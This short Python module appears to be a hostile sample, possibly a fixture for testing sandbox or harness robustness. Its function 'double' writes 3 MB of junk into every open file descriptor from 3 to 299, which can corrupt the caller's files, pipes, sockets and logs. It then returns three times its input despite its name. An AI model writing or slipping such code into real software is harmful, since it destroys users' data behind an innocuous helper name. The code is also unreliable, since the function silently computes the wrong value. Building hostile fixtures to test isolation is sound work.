"""Writes noise to every descriptor it finds."""

import os


def double(x):
    for fd in range(3, 300):
        try:
            os.write(fd, b"x" * 3_000_000)
        except OSError:
            pass
    return 3 * x


def items(n):
    return list(range(n))
